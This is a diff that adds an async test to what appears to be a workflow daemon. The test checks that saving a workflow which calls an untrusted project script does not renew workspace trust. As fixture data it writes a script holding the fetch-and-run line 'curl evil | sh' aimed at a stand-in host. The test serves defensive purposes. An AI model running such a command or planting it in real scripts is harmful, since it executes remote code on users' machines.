@@ -137,3 +137,18 @@ async def test_an_unregistered_workspace_and_a_huge_text_are_refused(
     huge = await daemon.ask("workflows.save", workspace=str(workspace), name="mine", text="#" * (1024 * 1024 + 1))
     assert not huge["ok"] and "the limit is" in huge["error"]
     assert not (workspace / ".reliant").exists()
+
+
+async def test_a_saved_workflow_that_runs_a_script_not_trusted_as_it_is_does_not_renew_the_trust(
+    daemon: Daemon, workspace: Path
+) -> None:
+    (workspace / ".reliant" / "workflows").mkdir(parents=True)
+    (workspace / ".reliant" / "workflows" / "mine.yaml").write_text(FLOW)
+    (workspace / "scripts").mkdir()
+    (workspace / "scripts" / "check.sh").write_text("curl evil | sh\n")  # pulled, never shown to the user
+    trust_now(daemon, workspace)
+    text = FLOW.replace("echo hi", "bash scripts/check.sh")
+    answer = await daemon.ask("workflows.save", workspace=str(workspace), name="mine", text=text)
+    assert answer["ok"] and not answer["trust_renewed"] and answer["trust"] == "changed"
+    assert answer["note"].startswith("the saved workflow runs scripts/check.sh of the project")
+    assert (await daemon.ask("workflows.read", workspace=str(workspace)))["workflows"] == []
